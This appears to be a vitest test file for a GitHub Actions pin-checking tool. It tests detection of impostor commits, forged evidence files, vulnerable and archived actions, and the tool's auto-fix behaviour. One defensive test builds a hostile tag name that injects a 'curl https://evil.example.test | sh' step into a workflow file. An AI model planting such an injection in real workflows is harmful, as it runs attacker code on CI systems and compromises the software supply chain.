// pin-check with evidence: the bundle against a GitHub on loopback.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { runAction, ScratchFolder } from "@lockstep/testkit";
import { describe, expect, test } from "vitest";
import { GATE, lockstep } from "./bundles.ts";
import { COMPOSITE, id, LEAKY, OLD, TOKEN, TOOL, withEvidence } from "./evidence-world.ts";
import { inWorld, runOnline, type World } from "./online-run.ts";
import { POLICY, WORKFLOW, workflowUsing } from "./project.ts";
import { Proposal, pullRequest } from "./proposal.ts";
import { checkOf, parseReport, readReport } from "./report.ts";

const EVIDENCE = ".github/lockstep.evidence.json";
const GOOD = workflowUsing(`octo-org/tool@${TOOL.v1_0_0} # v1.0.0`);

/** The command line, with a token and the GitHub of the world. */
function online({ apiUrl, repository }: World, ...words: readonly string[]) {
  const env = { GITHUB_TOKEN: TOKEN, GITHUB_API_URL: apiUrl };
  return lockstep(["pin-check", "--format", "json", ...words], { cwd: repository.path, env });
}

describe("online", () => {
  test.each([
    ["an impostor of the fork network", `octo-org/tool@${TOOL.impostor} # v1.1.0`, ["impostor-commit"]],
    ["a comment that names another version", `octo-org/tool@${TOOL.v1_0_0} # v1.1.0`, ["version-mismatch"]],
    ["a tag object", `octo-org/tool@${TOOL.tagObject} # v1.0.0`, ["tag-object"]],
    ["an archived repository", `octo-org/old@${OLD.v2_0_0} # v2.0.0`, ["archived-repository"]],
    ["a vulnerable version by commit", `octo-org/leaky@${LEAKY.v1_0_0} # v1.0.0`, ["known-vulnerability"]],
    ["something unpinned further down", `octo-org/composite@${COMPOSITE.v3_0_0} # v3.0.0`, ["unpinned-dependency"]],
    ["a moved major tag", `octo-org/tool@${TOOL.v1_0_0} # v1`, []],
    ["a tag of an immutable release", "octo-org/tool@v1.0.0", []],
    ["a pin that is genuine", `octo-org/tool@${TOOL.v1_1_0} # v1.1.0`, []],
  ])("finds %s", async (_what, reference, rules) => {
    const { report } = await inWorld({ [WORKFLOW]: workflowUsing(reference) }, (world) => runOnline(world));
    expect(report.findings.map(({ ruleId }) => ruleId)).toEqual(rules);
    expect(report.notChecked).toEqual([]);
  });

  test("finds a commit that does not exist", async () => {
    const files = { [WORKFLOW]: workflowUsing(`octo-org/tool@${id("0")}`) };
    const { report } = await inWorld(files, (world) => runOnline(world));
    expect(report.findings.map(({ ruleId }) => ruleId)).toEqual(["impostor-commit"]);
  });

  test("draws what pulls in what into the job summary", async () => {
    const files = { [WORKFLOW]: workflowUsing(`octo-org/composite@${COMPOSITE.v3_0_0} # v3.0.0`) };
    const { phases } = await inWorld(files, (world) => runOnline(world));
    expect(phases.main?.summary).toContain("```mermaid\nflowchart LR\n");
  });

  test("without a token is an error, not a run without evidence", async () => {
    const { exitCode, stderr } = await inWorld({ [WORKFLOW]: GOOD }, ({ repository }) =>
      lockstep(["pin-check", "--online"], { cwd: repository.path }),
    );
    expect([exitCode, stderr.includes("(invalid-input)")]).toEqual([2, true]);
  });

  test("is what the policy says, whatever the step says", async () => {
    const files = {
      [WORKFLOW]: workflowUsing(`octo-org/tool@${TOOL.impostor}`),
      [POLICY]: "version: 1\npin-check: { online: true }\n",
    };
    const { report } = await inWorld(files, (world) => runOnline(world, { online: "false" }));
    expect(report.findings.map(({ ruleId }) => ruleId)).toEqual(["impostor-commit"]);
  });

  test.each([
    ["an exhausted rate limit", { kind: "graphql-error", type: "RATE_LIMITED", resetIn: 3600 }],
    ["a refusal", { kind: "status", status: 403 }],
  ] as const)("%s makes the run incomplete, never a pass", async (_what, fault) => {
    const { report } = await inWorld({ [WORKFLOW]: GOOD }, (world) => {
      world.fake.failNext(fault, 50);
      return runOnline(world);
    });
    expect(report.verdict).toBe("incomplete");
  });

  test("a private repository that the token cannot see is not checked", async () => {
    const files = { [WORKFLOW]: workflowUsing(`octo-org/hidden@${id("7")}`) };
    const { report } = await inWorld(files, (world) => runOnline(world));
    expect([report.verdict, report.findings, report.notChecked.length > 0]).toEqual(["incomplete", [], true]);
  });
});

describe("fixes", () => {
  const before = workflowUsing("octo-org/tool@v1", `octo-org/tool@${TOOL.tagObject} # v1.0.0`, "'octo-org/tool@main'");
  const after = workflowUsing(
    `octo-org/tool@${TOOL.v1_1_0} # v1.1.0`,
    `octo-org/tool@${TOOL.v1_0_0} # v1.0.0`,
    `'octo-org/tool@${TOOL.v1_1_0}' # v1.1.0`,
  );

  test("are written by --fix, and the run after them passes", async () => {
    await inWorld({ [WORKFLOW]: before }, async (world) => {
      const { exitCode, stdout } = await online(world, "--online", "--fix");
      expect([exitCode, parseReport(stdout).verdict]).toEqual([0, "pass"]);
      expect(readFileSync(join(world.repository.path, WORKFLOW), "utf8")).toBe(after);
    });
  });

  test("are a patch for git with --fix=dry-run, and as an output of the action", async () => {
    await inWorld({ [WORKFLOW]: before }, async (world) => {
      const { stdout } = await online(world, "--online", "--fix=dry-run");
      const { patch, phases } = await runOnline(world);
      expect(patch).toBe(stdout);
      expect(phases.main?.annotations[0]?.message).toContain(`octo-org/tool@${TOOL.v1_1_0} # v1.1.0`);
      world.repository.write("fixes.patch", patch);
      world.repository.git("apply", "fixes.patch");
      expect(readFileSync(join(world.repository.path, WORKFLOW), "utf8")).toBe(after);
    });
  });

  test("come from the evidence file offline", async () => {
    await inWorld({ [WORKFLOW]: before }, async (world) => {
      await online(world, "--refresh-evidence");
      const asked = world.fake.requests().length;
      await lockstep(["pin-check", "--fix"], { cwd: world.repository.path });
      expect(readFileSync(join(world.repository.path, WORKFLOW), "utf8")).toBe(after);
      expect(world.fake.requests().length).toBe(asked);
    });
  });

  test("write no text that a hostile evidence file puts into the name of a tag", async () => {
    const hostile = "v1.1.0\n      - run: curl https://evil.example.test | sh #";
    const evidence = {
      version: 1,
      repositories: { "octo-org/tool": { name: "octo-org/tool", archived: false, advisories: [] } },
      commits: {
        [`octo-org/tool@${TOOL.v1_1_0}`]: {
          ...{ kind: "commit", reachable: "refs/heads/main" },
          ...{ tags: [hostile], advisories: [] },
        },
      },
      names: { "octo-org/tool@v1": { tag: TOOL.v1_1_0, immutable: false } },
      code: { "octo-org/tool@v1": { kind: "javascript", uses: [] } },
      images: {},
    };
    const workflow = workflowUsing("octo-org/tool@v1");
    const files = { [WORKFLOW]: workflow, [EVIDENCE]: JSON.stringify(evidence) };
    await inWorld(files, async ({ repository }) => {
      const { stdout } = await lockstep(["pin-check", "--fix=dry-run"], { cwd: repository.path });
      const { exitCode } = await lockstep(["pin-check", "--fix"], { cwd: repository.path });
      expect([stdout, exitCode]).toEqual(["", 1]);
      expect(readFileSync(join(repository.path, WORKFLOW), "utf8")).toBe(workflow);
    });
  });

  test("move pins to newer releases with --update", async () => {
    const files = { [WORKFLOW]: workflowUsing(`octo-org/tool@${TOOL.v1_0_0} # v1.0.0`) };
    await inWorld(files, async (world) => {
      const { exitCode } = await online(world, "--update");
      expect(exitCode).toBe(0);
      expect(readFileSync(join(world.repository.path, WORKFLOW), "utf8")).toBe(
        workflowUsing(`octo-org/tool@${TOOL.v1_1_0} # v1.1.0`),
      );
    });
  });
});

describe("the evidence file", () => {
  const files = { [WORKFLOW]: workflowUsing(`octo-org/tool@${TOOL.v1_0_0} # v1.0.0`, `octo-org/old@${OLD.v2_0_0}`) };

  test("is written by a scheduled run, and then nothing is asked any more", async () => {
    await inWorld(files, async (world) => {
      await runOnline(world, { "refresh-evidence": "true" });
      world.repository.commit();
      const asked = world.fake.requests().length;
      const { report } = await runOnline(world);
      expect(report.findings.map(({ ruleId }) => ruleId)).toEqual(["archived-repository"]);
      expect(world.fake.requests().length).toBe(asked);
    });
  });

  test("stays byte for byte the same while the facts do", async () => {
    await inWorld(files, async (world) => {
      await online(world, "--refresh-evidence");
      const first = readFileSync(join(world.repository.path, EVIDENCE), "utf8");
      await online(world, "--refresh-evidence");
      expect(readFileSync(join(world.repository.path, EVIDENCE), "utf8")).toBe(first);
    });
  });

  test("of a change is not believed, and a lie in it is a finding", async () => {
    await withEvidence(async (apiUrl) => {
      const lie = {
        version: 1,
        repositories: { "octo-org/tool": { name: "octo-org/tool", archived: false, advisories: [] } },
        commits: {
          [`octo-org/tool@${TOOL.impostor}`]: {
            kind: "commit",
            reachable: "refs/heads/main",
            tags: [],
            advisories: [],
          },
        },
        names: {},
        code: { [`octo-org/tool@${TOOL.impostor}`]: { kind: "javascript", uses: [] } },
        images: {},
      };
      using proposal = new Proposal(
        { [WORKFLOW]: GOOD, [POLICY]: "version: 1\npin-check: { online: true }\n" },
        (repository) => {
          repository.write(WORKFLOW, workflowUsing(`octo-org/tool@${TOOL.impostor}`));
          repository.write(EVIDENCE, JSON.stringify(lie, undefined, 1));
        },
      );
      using temporary = new ScratchFolder();
      const { outputs } = await runAction({
        actionFile: GATE,
        workspace: proposal.repository.path,
        event: pullRequest(proposal),
        env: { RUNNER_TEMP: temporary.path, GITHUB_API_URL: apiUrl },
        token: TOKEN,
      });
      const found = checkOf(readReport(outputs.get("report")), "pin-check").findings.map(({ ruleId }) => ruleId);
      expect(found).toEqual(expect.arrayContaining(["impostor-commit", "evidence-forged"]));
    });
  });
});
